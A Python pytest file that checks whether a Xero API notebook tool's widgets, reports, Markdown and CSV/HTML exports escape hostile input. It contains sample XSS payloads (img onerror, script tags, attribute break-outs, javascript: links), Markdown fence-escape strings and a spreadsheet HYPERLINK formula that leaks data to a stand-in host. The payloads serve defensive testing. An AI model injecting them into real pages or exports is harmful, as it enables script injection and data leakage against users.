"""Hostile input rendered: every view, the report and the exports stay inert.

Organisation names, response bodies, problem fields, headers, URLs, pasted text and frame cells
carry markup, attribute break-outs, Markdown links, backtick runs and spreadsheet formulas; no
HTML any widget, report or notebook output shows (nor its Markdown, once rendered) may turn
them into tags, attributes or links.
"""

from __future__ import annotations

import csv
import dataclasses
import html
import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

import ipywidgets as W
import mistune
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from xero_nb import markup
from xero_nb.catalog.frames import coverage, export, style
from xero_nb.http import AsyncBaseTransport, BaseTransport, Request, Response
from xero_nb.report.build import report
from xero_nb.report.render import markdown, to_html
from xero_nb.simulator import XeroSimulator
from xero_nb.widgets.connection import Connection
from xero_nb.widgets.export import MIME
from xero_nb.widgets.lab import LabState
from xero_nb.widgets.lab_view import ScopeLab
from xero_nb.widgets.scope_state import ScopeState
from xero_nb.widgets.table import TableState
from xero_nb.widgets.table_view import BRIDGE_JS, show_table

IMG = "<img src=x onerror=alert(1)>"
SCRIPT = "</b></div><script>alert(2)</script>"
DQ = '" onmouseover="alert(3)" x="'
SQ = "' onfocus='alert(4)' x='"
LINK = "[click](javascript:alert(5)) ![i](javascript:alert(6))"
TICKS = "````\n<img src=y onerror=alert(7)>\n````"
PIPES = "a | b\n| c"
FORMULA = '=HYPERLINK("http://evil.test/?leak=1","click")'
HOSTILE = " ".join((IMG, SCRIPT, DQ, SQ, LINK, PIPES))
ORG = "Evil Org " + IMG + DQ + " | x\n| y"
BAD_TAGS = {"img", "script", "iframe", "svg", "object", "embed", "math", "form", "input"}
CID = "<img src=z onerror=alert(8)>"


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def assert_inert(fragment: str, where: str = "") -> None:
    """No tag, event handler, stray attribute or script link came from the hostile strings."""
    low = fragment.lower()
    for raw in ("<img", "<script", "<iframe", "<svg"):
        assert raw not in low, (where, raw, fragment[max(low.find(raw) - 80, 0):low.find(raw) + 80])
    parser = _Tags()
    parser.feed(fragment)
    parser.close()
    for tag, attrs in parser.tags:
        assert tag not in BAD_TAGS, (where, tag)
        for name, value in attrs:
            if name == "onclick" and value == BRIDGE_JS:  # the tables' one constant click bridge
                continue
            assert not name.startswith("on") and name not in ("x", "src"), (where, tag, name)
            if name == "href":  # a web link, or a download of one of our own file types
                download = tag == "a" and "download" in dict(attrs) and (value or "").startswith(
                    tuple(f"data:{m};base64," for m in MIME.values()))
                assert value == "#" or download or (value or "").startswith(
                    ("http://", "https://")), (where, value)


_MD = mistune.create_markdown(escape=False, plugins=["table", "url", "strikethrough"])


def rendered(md: str) -> str:
    """Markdown as a notebook would show it (raw HTML in it passed through, as Markdown allows)."""
    return str(_MD(md))


# -- a simulator whose organisations and answers are hostile -------------------------------
def _hostile_answer(request: Request) -> Response | None:
    path = request.url.path
    if request.url.host != "api.xero.com" or path == "/connections":
        return None
    headers = {"Xero-Correlation-Id": CID, "Content-Type": "application/json"}
    if path.endswith("/Contacts"):
        return Response(200, headers=headers, request=request, json={"Contacts": [
            {"ContactID": "c-1", "Name": HOSTILE, "EmailAddress": FORMULA, DQ: "column"}]})
    if path.endswith("/Invoices"):
        return Response(403, headers=headers, request=request, json={
            "Type": HOSTILE, "Title": "Forbidden " + IMG, "Status": 403,
            "Detail": "AuthenticationUnsuccessful " + TICKS + " " + LINK, "Instance": CID})
    return None


class HostileTransport(BaseTransport, AsyncBaseTransport):
    """The simulator, except that Contacts and Invoices answer with hostile bodies."""

    def __init__(self, inner: Any) -> None:
        self.inner = inner

    def handle_request(self, request: Request) -> Response:
        request.read()
        return _hostile_answer(request) or self.inner.handle_request(request)

    async def handle_async_request(self, request: Request) -> Response:
        await request.aread()
        return _hostile_answer(request) or await self.inner.handle_async_request(request)


class HostileSim(XeroSimulator):
    """Organisations named by an attacker (as /connections returns them), hostile API bodies."""

    def __init__(self) -> None:
        super().__init__(limits=False)
        for i, org in enumerate(self.tenants):
            self.tenants[i] = dataclasses.replace(org, name=f"{ORG} #{i}")

    def transport(self) -> Any:
        return HostileTransport(super().transport())


def walk(widget: Any) -> Iterator[Any]:
    yield widget
    for child in getattr(widget, "children", ()):
        yield from walk(child)


def assert_lab_inert(lab: ScopeLab, where: str) -> None:
    shown = 0
    for w in walk(lab):
        assert not getattr(w, "description_allow_html", False), (where, w)
        if isinstance(w, W.HTML):
            assert_inert(w.value, f"{where}: {type(w).__name__}")
            shown += bool(w.value)
    assert shown > 5, where


@pytest.fixture
def lab() -> ScopeLab:
    c = Connection(ScopeState())
    c.use_simulator(simulator=HostileSim())
    c.sign_in()
    assert c.notice[0] == "ok", c.notice
    assert c.tenants and all(t.tenant_name.startswith("Evil Org <img") for t in c.tenants)
    return ScopeLab(LabState(c))


def test_banner_escapes_the_organisation_name(lab: ScopeLab) -> None:
    banner = lab._banner.value
    assert "&lt;img src=x onerror=alert(1)&gt;" in banner and "Evil Org" in banner
    assert_inert(banner, "banner")
    assert_inert(lab.connect.status.value, "status")


def test_every_view_stays_inert_after_every_action(lab: ScopeLab) -> None:
    st = lab.state
    assert_lab_inert(lab, "built")
    lab.call.endpoint.value = ("accounting", "getInvoices")
    lab.call.send.click()
    assert st.call.result.status == 403 and st.call.diagnosis is not None
    assert "Forbidden &lt;img" in lab.call.body.value and "&lt;img src=z" in lab.call.info.value
    assert_lab_inert(lab, "403 with a hostile problem")
    lab.call.endpoint.value = ("accounting", "getContacts")
    lab.call.send.click()
    assert st.call.result.status == 200 and len(st.call.response_table.frame) == 1
    assert "&lt;img" in lab.call.table.body.value
    assert_lab_inert(lab, "200 with hostile records")
    lab.call.paste.value = HOSTILE + " " + TICKS + " status 401"
    lab.call.paste_btn.click()
    assert_lab_inert(lab, "pasted")
    st.call.choose_url("GET", "https://api.xero.com/api.xro/2.0/" + IMG)  # no such endpoint
    st.browser.set_filters(api=IMG)  # no such API: an error notice quoting it
    st.explorer.toggle(IMG)  # no such scope
    st.connection.select_tenant(DQ)
    st.connection.complete("https://x.test/cb?code=1&state=" + IMG)
    for notice in (lab.call.notice, lab.endpoints.notice, lab.explorer.notice, lab.connect.notice):
        assert "error" in notice.value, notice.value
    assert_lab_inert(lab, "error notices")
    st.connection.pending_url = "javascript:alert(9)//https://x"
    st.connection.tell("open the link")
    assert 'href="#"' in lab.connect.link.value
    assert_lab_inert(lab, "a consent link that is not http(s)")
    lab.probe.run_btn.click()
    st.probe.wait(60)
    assert st.probe.report is not None and "Evil Org &lt;img" in lab.probe.grid.value
    assert_lab_inert(lab, "probe")
    st.connection.disconnect()
    assert "Disconnected Evil Org &lt;img" in lab.connect.notice.value
    assert_lab_inert(lab, "disconnected")


def test_tables_escape_names_columns_and_titles() -> None:
    frame = pd.DataFrame({DQ: [HOSTILE, IMG], "allowed": [True, False]})
    table = show_table(frame, name=DQ + "name", title=SCRIPT + IMG)
    for w in walk(table):
        if isinstance(w, W.HTML):
            assert_inert(w.value, "table")
    assert_inert(TableState(frame, name=SQ).html(), "table html")


def test_report_html_and_rendered_markdown_stay_inert(lab: ScopeLab) -> None:
    st = lab.state
    st.call.choose(("accounting", "getInvoices"))
    failed = st.call.send()
    st.probe.run()
    cov = pd.DataFrame({IMG: [HOSTILE], "allowed": [False], "api": [LINK]})
    r = report([failed, {"status": 401, "url": "https://api.xero.com/api.xro/2.0/Invoices?q=" + IMG,
                         "body": json.dumps({"Title": HOSTILE, "Detail": TICKS})}],
               tenants=st.connection.tenants, probe=st.probe.report, coverage=cov,
               text=HOSTILE + "\nAuthorization: Bearer abc", title=IMG + " report")
    assert "Evil Org &lt;img" in r.html
    assert_inert(r.html, "report html")
    assert_inert(rendered(r.markdown), "report markdown")
    assert_inert(r._repr_html_(), "notebook output")


def test_markdown_tables_keep_their_columns_whatever_the_tenant_name() -> None:
    tenants = [{"id": "conn-1", "tenantId": "t-1", "tenantName": ORG, "tenantType": "ORGANISATION"}]
    md = report(tenants=tenants).markdown
    out = rendered(md)
    row = re.search(r"<tr>\s*<td>Evil Org.*?</tr>", out, re.S)
    assert row is not None and row.group(0).count("<td>") == 5, out
    assert "\n| y" not in md and "<img" not in md
    assert_inert(out, "tenants")


def test_a_fence_is_longer_than_any_backtick_run_in_its_body() -> None:
    body = 'say ````` then\n```\n<img src=x onerror=alert(1)>\n`` end'
    md = markdown([("code", "json", body), ("h", 3, "after")])
    assert md.startswith("``````json\n") and "\n``````\n" in md
    out = rendered(md)
    code = re.search(r"<code[^>]*>(.*?)</code>", out, re.S)
    assert code is not None and html.unescape(code.group(1)).rstrip("\n") == body
    assert "<h3>after</h3>" in out
    assert_inert(out, "fence")


def test_a_four_backtick_response_body_cannot_escape_the_report_fence() -> None:
    body = "upstream said:\n````\n# owned\n<img src=x onerror=alert(1)>\n````"  # not JSON: kept as is
    r = report([{"status": 400, "body": body}])
    assert body in r.markdown
    out = rendered(r.markdown)
    assert "<h1>owned</h1>" not in out and "owned" in out
    assert_inert(out, "report body")


def test_markdown_cells_headings_and_paragraphs_are_escaped() -> None:
    blocks = [("h", 2, IMG + "\n# more"), ("p", LINK + " " + IMG, None),
              ("table", (PIPES, "b"), [(PIPES + "\r\n" + IMG, LINK)])]
    md = markdown(blocks)
    out = rendered(md)
    assert out.count("<tr>") == 2 and out.count("<td>") == 2 and out.count("<th>") == 2, out
    assert "<a " not in out and "<h1>" not in out
    assert_inert(out, "blocks")
    assert_inert(to_html(blocks), "blocks html")


def test_csv_exports_neutralise_formulas(tmp_path) -> None:
    cells = [FORMULA, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "plain", "a=b", "ok\r=2"]
    frame = pd.DataFrame({"cell": cells, "n": range(-4, 5), FORMULA: [""] * len(cells)})
    table = TableState(frame, name="t")
    table.to_csv(tmp_path / "t.csv")
    for path in (export(frame, tmp_path / "f.csv"), tmp_path / "t.csv"):
        with path.open(encoding="utf-8", newline="") as f:  # as a spreadsheet reads it
            rows = list(csv.reader(f))
        assert rows[0] == ["cell", "n", "'" + FORMULA]
        got = [r[0] for r in rows[1:]]
        assert got[:6] == ["'" + c for c in cells[:6]] and got[6:] == ["plain", "a=b", "ok\r=2"]
        assert [r[1] for r in rows[1:]] == [str(n) for n in range(-4, 5)]  # numbers stay numbers
        assert len(rows) == len(cells) + 1  # a CR inside a cell is quoted: it starts no row


def test_styled_frames_and_html_exports_are_escaped(tmp_path) -> None:
    frame = coverage(["accounting.settings.read"]).head(3).copy()
    frame.loc[0, "path"] = IMG
    frame = frame.rename(columns={"tag": SCRIPT})
    assert_inert(style(frame).to_html(), "styler")
    assert_inert(export(frame, tmp_path / "c.html").read_text(encoding="utf-8"), "html export")


# -- the escaping helper ---------------------------------------------------------------------
ENTITY = re.compile(r"&(?!(?:amp|lt|gt|quot|#x27);)")


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_text_and_attributes_never_carry_markup_and_round_trip(value: str) -> None:
    out = markup.text(value)
    assert not set(out) & set("<>\"'") and not ENTITY.search(out)
    assert html.unescape(out) == value
    attr = markup.fmt('<a title="{}" data-x=\'{}\'>{}</a>', value, value, value)
    parser = _Tags()
    parser.feed(attr)
    parser.close()
    assert parser.tags == [("a", [("title", value), ("data-x", value)])]


@settings(max_examples=200, deadline=None)
@given(st.text(), st.text())
def test_markup_passes_once_and_text_never(inner: str, outer: str) -> None:
    piece = markup.el("b", inner)
    assert markup.join([piece, outer]) == f"<b>{markup.text(inner)}</b>{markup.text(outer)}"
    assert markup.fmt("{}{}", piece, outer) == markup.join([piece, outer])


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_href_is_http_or_nothing(value: str) -> None:
    out = markup.href(value)
    assert out == "#" or (value.lower().startswith(("http://", "https://"))
                          and html.unescape(out) == value)
    assert markup.href("javascript:alert(1)") == "#" and markup.href(" https://x.test") == "#"


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_rich_text_only_links_http(value: str) -> None:
    assert_inert(markup.rich(value), "rich")
    assert html.unescape(re.sub(r"<[^>]+>", "", markup.rich(value))).replace("`", "") == \
        value.replace("`", "")


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_a_markdown_cell_is_one_cell(value: str) -> None:
    md = f"| h |\n|---|\n| {markup.md_text(value)} |\n"
    out = rendered(md)
    assert out.count("<td>") + out.count("<td ") == 1 and "\n" not in markup.md_text(value)
    assert_inert(out, "cell")


@settings(max_examples=200, deadline=None)
@given(st.text(), st.sampled_from(["", "json", "bash"]))
def test_a_fence_holds_its_body(body: str, lang: str) -> None:
    block = markup.md_fence(body, lang)
    first, *_, last = block.split("\n")
    assert first.startswith("```") and last == first[:len(last)] and set(last) == {"`"}
    assert block == f"{first}\n{body}\n{last}" and "`" * len(last) not in body


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_csv_cell(value: str) -> None:
    out = markup.csv_cell(value)
    assert not out.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert out == value or out == "'" + value
    assert markup.csv_cell(3) == 3 and markup.csv_cell(-3.5) == -3.5
